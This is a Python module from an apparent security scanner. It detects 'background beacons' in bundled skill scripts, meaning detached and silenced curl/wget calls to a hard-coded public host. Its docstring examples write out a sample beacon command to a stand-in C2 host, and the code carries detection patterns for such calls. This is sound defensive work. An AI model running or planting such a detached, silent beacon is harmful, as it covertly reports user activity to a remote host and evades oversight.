"""Background beacons: a bundled script calls a hard-coded host in a detached process and
throws the answer away.

A script that needs a download keeps the file; one that checks a service reads the
reply. ``nohup curl -s http://host/beacon &>/dev/null & disown`` does neither: it tells
a remote host that the skill ran (often with who and where), detached so it outlives the
agent's command and silent so nothing shows. Flagged when a ``curl``/``wget`` call is both
detached (``&``, ``nohup``, ``setsid``, ``disown``) and silenced (output to
``/dev/null``, or ``nohup``/``setsid``/``disown``, which detach it from the terminal), and
names a literal public host. Downloads to a file and local services are not beacons.

>>> [f.rule_id for f in background_beacons("scripts/d.sh",
...     "nohup curl -s http://c2.invalid/b &>/dev/null &\\ndisown")]
['shell.background-beacon']
>>> background_beacons("scripts/d.sh", 'curl -sL "https://img.invalid/a.jpg" -o "$OUT/a.jpg" &')
[]
"""

from __future__ import annotations

import re

from .destinations import is_internal
from .findings import ThreatFinding, line_at
from .literal_scan import scanner_for
from .normalise_shell import shell_words

RULE_ID = "shell.background-beacon"
_HINT = re.compile(r"\b(?:curl|wget)\b")
_DETACHERS = frozenset({"nohup", "setsid", "disown"})
_PREFIXES = frozenset({"nohup", "setsid", "disown", "sudo", "command", "exec", "env", "time"})
_SEPARATORS = frozenset({";", "&&", "||", "|", "(", ")", "{", "}"})
_OUTPUT_FLAGS = frozenset({"-o", "-O", "--output", "--output-document"})
_URL = re.compile(r"^https?://([^/:?#\s]+)", re.I)
_IDENTITY = re.compile(r"\$\(\s*(?:whoami|hostname|id\b|uname)|\$\{?(?:USER|LOGNAME|HOSTNAME)\b")
"""The user or host put in the call: the identity-beacon family's finding, not this one."""
_MAX_LINE = 2000
_PUNCTUATION = frozenset("();<>|&")
_OPERATOR = re.compile(r"&&|\|\||&>|>>|>&|<&|>\||[();<>|&]")


def _tokens(line: str) -> list[str]:
    tokens: list[str] = []
    # shlex glues adjacent operators: "&)" is "&" then ")"
    for token in shell_words(line[:_MAX_LINE]) or []:
        tokens += _OPERATOR.findall(token) if token and set(token) <= _PUNCTUATION else [token]
    return tokens


def _commands(tokens: list[str]) -> list[tuple[list[str], bool]]:
    """Each simple command of a line and whether it is sent to the background (``&``)."""
    commands: list[tuple[list[str], bool]] = []
    current: list[str] = []
    for token in tokens:
        if token == "&" or token in _SEPARATORS:
            if current:
                commands.append((current, token == "&"))
            current = []
        else:
            current.append(token)
    if current:
        commands.append((current, False))
    return commands


def _beacon_host(words: list[str], detached: bool) -> str | None:
    """The public host a silenced ``curl``/``wget`` call reaches, when it keeps nothing."""
    index = 0
    while index < len(words) and (words[index] in _PREFIXES or "=" in words[index].split("/")[0]):
        index += 1
    if index >= len(words) or words[index].rsplit("/", 1)[-1] not in ("curl", "wget"):
        return None
    silenced = any(w in _DETACHERS for w in words[:index])
    detached = detached or silenced
    host = None
    for before, word in zip(words[index:], words[index + 1 :], strict=False):
        if before in _OUTPUT_FLAGS or before in (">", ">>", "&>", ">|"):
            if word != "/dev/null":
                return None  # kept in a file: a download, not a beacon
            silenced = True
        elif word.startswith(("--output=", "--output-document=")) and not word.endswith(
            "=/dev/null"
        ):
            return None
        match = _URL.match(word)
        if match and host is None:
            host = match.group(1)
    if not (detached and silenced) or host is None:
        return None
    if "$" in host or "{" in host or is_internal(host):
        return None
    return host


def background_beacons(path: str, text: str) -> list[ThreatFinding]:
    """Findings for detached, silenced ``curl``/``wget`` calls to a literal public host."""
    if not scanner_for(_HINT).search(text):
        return []
    lines = text.splitlines()
    findings = []
    for number, line in enumerate(lines, 1):
        if not _HINT.search(line) or line.lstrip().startswith("#") or _IDENTITY.search(line):
            continue
        following = lines[number] if number < len(lines) else ""
        for words, background in _commands(_tokens(line)):
            if background and following.strip().startswith("disown"):
                words = ["disown", *words]
            host = _beacon_host(words, background)
            if host is not None:
                description = (
                    f"calls {host[:60]} in a detached, silenced process (background beacon)"
                )
                evidence = line_at(lines, number)
                findings.append(
                    ThreatFinding("8.2", "high", path, number, evidence, description, RULE_ID)
                )
                break
    return findings
